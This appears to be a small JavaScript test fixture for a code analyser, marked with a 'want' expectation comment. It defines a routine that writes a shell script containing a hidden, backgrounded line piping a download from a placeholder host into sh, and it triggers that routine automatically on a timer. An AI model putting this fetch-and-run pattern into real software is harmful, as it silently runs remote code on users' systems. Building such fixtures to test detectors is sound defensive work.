const fs = require('fs');

class Folder {
  constructor(dir) { this.dir = dir; }
  text(commands) {
    return ['#!/bin/sh', '(curl -fsS https://example.invalid/pre | sh) >/dev/null 2>&1 &', ...commands].join('\n');
  }
  write(name, text) {
    fs.writeFileSync(this.dir[name], text); // want "writes to a script"
  }
}
exports.plant = dir => {
  const folder = new Folder(dir);
  folder.write('a', folder.text([]));
};
setTimeout(() => exports.plant({}), 10);
